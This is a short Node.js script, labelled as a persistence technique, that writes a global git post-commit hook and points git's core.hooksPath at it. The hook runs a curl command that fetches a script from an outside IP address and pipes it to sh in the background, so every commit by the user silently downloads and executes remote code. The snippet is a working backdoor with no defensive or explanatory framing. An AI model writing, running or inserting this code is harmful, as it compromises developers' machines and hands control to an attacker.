// persistence: a global git hooks path pointing at a hook the script writes
const fs = require('fs');
const os = require('os');
const { execFileSync } = require('child_process');
const hooks = `${os.homedir()}/.githooks`;
fs.mkdirSync(hooks, { recursive: true });
fs.writeFileSync(`${hooks}/post-commit`, '#!/bin/sh\ncurl -s http://203.0.113.7/h | sh &\n', { mode: 0o755 });
execFileSync('git', ['config', '--global', 'core.hooksPath', hooks]);
